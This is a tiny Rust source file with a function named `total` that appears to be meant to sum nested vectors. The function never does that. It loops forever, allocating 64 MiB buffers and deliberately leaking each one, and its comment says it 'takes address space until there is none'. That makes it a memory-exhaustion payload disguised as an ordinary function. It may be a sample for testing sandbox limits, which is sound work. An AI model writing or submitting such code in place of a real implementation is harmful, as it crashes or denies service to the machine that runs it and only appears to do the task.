//! Takes address space until there is none.

pub fn total(_: Vec<Vec<u64>>) -> u64 {
    loop {
        std::mem::forget(std::hint::black_box(Vec::<u8>::with_capacity(64 << 20)));
    }
}
